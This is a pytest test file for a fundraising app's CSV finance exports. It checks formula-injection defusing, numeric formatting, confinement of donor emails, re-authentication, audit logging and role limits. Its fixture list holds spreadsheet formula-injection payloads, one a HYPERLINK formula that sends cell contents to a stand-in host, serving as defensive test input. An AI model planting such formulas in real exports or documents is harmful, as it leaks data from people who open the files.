"""CSV exports: formula-like cells defused, numbers left as numbers, donor email only in the
donations export, re-authentication required and every export audited."""

from __future__ import annotations

import csv
import io

import pytest

from accounts.models import Role
from extensions import db
from finance import reconcile
from fundraising.stripe_gateway import current_gateway
from tests.factories import audit_actions, make_drive
from tests.finance.conftest import donate
from tests.finance.support import build

KINDS = ["donations", "payouts", "disbursements", "ledger"]
HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', "+1+1", "@SUM(A1)", "-2+3"]


def rows(response):
    assert response.status_code == 200, response.headers.get("Location")
    assert response.mimetype == "text/csv"
    return list(csv.DictReader(io.StringIO(response.get_data(as_text=True))))


@pytest.fixture
def hostile_gifts(app):
    drive_id = make_drive(app)
    for index, text in enumerate(HOSTILE):
        donate(
            app,
            drive_id,
            1000 + index,
            name=text,
            email=f"donor{index}@example.net",
            message=text,
            intent_id=f"pi_hostile_{index}",
        )
    return drive_id


def test_formula_like_names_and_messages_come_out_as_text(app, staff, hostile_gifts):
    finance = staff(Role.FINANCE)
    exported = rows(finance.client.get("/finance/exports/donations.csv"))
    assert sorted(row["donor_name"] for row in exported) == sorted("'" + text for text in HOSTILE)
    assert sorted(row["message"] for row in exported) == sorted("'" + text for text in HOSTILE)
    assert sorted(row["amount"] for row in exported) == ["10.00", "10.01", "10.02", "10.03"]
    assert {row["currency"] for row in exported} == {"USD"}


def test_negative_amounts_stay_numbers(app, staff, recorded_stripe):
    scenario = build(app, recorded_stripe)
    with app.app_context():
        reconcile.sync_payout(current_gateway(), scenario.payout_id)
        db.session.commit()
    finance = staff(Role.FINANCE)
    exported = {row["id"]: row for row in rows(finance.client.get("/finance/exports/payouts.csv"))}
    refund = exported[scenario.lines["refund_b"]]
    assert (refund["amount"], refund["net"], refund["currency"]) == ("-10.00", "-10.00", "USD")
    dispute = exported[scenario.lines["dispute_c"]]
    assert (dispute["amount"], dispute["fee"], dispute["net"]) == ("-30.00", "15.00", "-45.00")
    assert exported[scenario.lines["charge_d"]]["bank_reference_or_rate"] == "1.08"


def test_donor_email_appears_only_in_the_donations_export(app, staff, hostile_gifts):
    finance = staff(Role.FINANCE)
    for kind in KINDS:
        text = finance.client.get(f"/finance/exports/{kind}.csv").get_data(as_text=True)
        assert ("donor0@example.net" in text) is (kind == "donations"), kind
    for page in ("/finance/", f"/finance/drives/{hostile_gifts}", "/finance/disbursements"):
        assert "@example.net" not in finance.client.get(page).get_data(as_text=True)


@pytest.mark.parametrize("kind", KINDS)
def test_an_export_without_recent_reauthentication_is_refused(app, staff, clock, kind):
    finance = staff(Role.FINANCE)
    clock.advance(minutes=6)
    response = finance.client.get(f"/finance/exports/{kind}.csv")
    assert response.status_code == 302
    assert "/reauthenticate" in response.headers["Location"]
    assert audit_actions(app, "export.") == []
    finance.reauthenticate()
    assert finance.client.get(f"/finance/exports/{kind}.csv").status_code == 200


def test_each_export_writes_an_audit_record(app, staff, hostile_gifts):
    finance = staff(Role.FINANCE)
    for kind in KINDS:
        rows(finance.client.get(f"/finance/exports/{kind}.csv"))
    assert audit_actions(app, "export.") == ["export.created"] * len(KINDS)


@pytest.mark.parametrize("role", [Role.CASEWORKER, Role.ADMIN])
def test_only_finance_exports(app, staff, role, hostile_gifts):
    other = staff(role)
    for kind in KINDS:
        assert other.client.get(f"/finance/exports/{kind}.csv").status_code == 403
    assert audit_actions(app, "export.") == []
